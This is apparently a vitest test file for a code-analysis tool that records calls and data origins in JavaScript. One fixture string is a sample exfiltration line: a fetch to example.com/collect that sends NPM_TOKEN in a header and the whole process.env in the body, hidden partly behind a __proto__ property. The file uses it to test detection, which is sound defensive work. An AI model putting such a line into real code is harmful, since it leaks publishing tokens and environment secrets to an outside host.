import { describe, expect, it } from 'vitest';
import { detachStrings } from '../../src/facts/detach.js';
import { jsFileFacts } from '../../src/facts/js-facts.js';

describe('facts hold strings of their own', () => {
  it('leaves the facts equal', () => {
    const source = 'x'.repeat(40);
    const facts = {
      calls: [{ callee: source.slice(2, 30), args: [{ text: `${source.slice(0, 20)}!`, refs: ['a', 'b'] }] }],
      n: 3,
      none: null,
    };
    const before = JSON.stringify(facts);
    expect(JSON.stringify(detachStrings(facts))).toBe(before);
  });

  it('rewrites own properties only, even when the code names a property __proto__', () => {
    const code =
      "fetch('https://example.com/collect', { __proto__: { headers: 'x' + process.env.NPM_TOKEN }, body: JSON.stringify(process.env) })";
    const fetched = jsFileFacts('index.js', code).calls[0];
    const options = fetched?.args[1];
    expect(Object.keys(options?.properties ?? {})).toEqual(['body']);
    expect(options?.origins).toEqual(expect.arrayContaining(['env', 'env-all']));
  });
});
